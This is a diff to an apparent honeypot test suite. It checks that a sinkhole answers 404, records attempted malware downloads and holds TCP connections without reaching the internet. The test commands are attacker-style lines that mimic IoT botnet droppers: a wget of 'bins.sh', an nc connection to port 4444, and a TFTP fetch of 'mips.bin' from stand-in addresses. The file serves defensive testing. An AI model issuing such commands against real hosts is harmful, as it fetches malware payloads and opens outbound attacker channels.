@@ -240,15 +240,22 @@ async def test_sinkhole_answers_404_and_records_the_url(captured: Any, internet:
     url = f"http://{NAME}:{internet.port}/bins.sh"
     out, session = await shell(
         hp,
-        f"wget -S -O /tmp/w.sh {url} 2>&1 | grep -E 'HTTP/|Server:'; printf 'hello' | timeout 2 nc 198.18.7.7 4444; echo rc=$?",
+        f"wget -S -O /tmp/w.sh {url} 2>&1 | grep -E 'HTTP/|Server:'; printf 'hello' | timeout 2 nc 198.18.7.7 4444; echo rc=$?; "
+        "curl -sS -m 5 -o /tmp/t tftp://198.18.5.5/mips.bin; echo tftp=$?; "
+        'python3 -c "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,socket.IPPROTO_ICMP);'
+        "s.settimeout(3);s.sendto(bytes([8,0,0,0,0,1,0,1])+b'hi',('198.18.9.9',0));print('echo-reply', s.recv(64)[0])\"",
     )
     assert "404 Not Found" in out and "Server: nginx" in out, out
-    [failed] = hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session)
+    failed = hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session)[0]
     assert failed.get("url") == url and "fetch: false" in str(failed.get("error"))
     assert internet.requests == []  # nothing was fetched
     # Other TCP: held open silently, its bytes recorded.
     tcp = [e for e in hp.events(NETWORK_TCP, session=session) if e.get("dst_port") == 4444]
     assert tcp and tcp[0].get("data") == "hello" and tcp[0].get("dst_ip") == "198.18.7.7", out
+    # TFTP: recorded, answered "File not found" (curl: exit 68, TFTP_NOTFOUND); an echo to anywhere: answered.
+    assert "tftp=68" in out and "echo-reply 0" in out, out
+    tftp = [e for e in hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session) if str(e.get("url")).startswith("tftp")]
+    assert [e.get("url") for e in tftp] == ["tftp://198.18.5.5/mips.bin"]
 
 
 async def test_the_gateway_is_a_dead_end_by_inspection(captured: Any, internet: Internet) -> None:
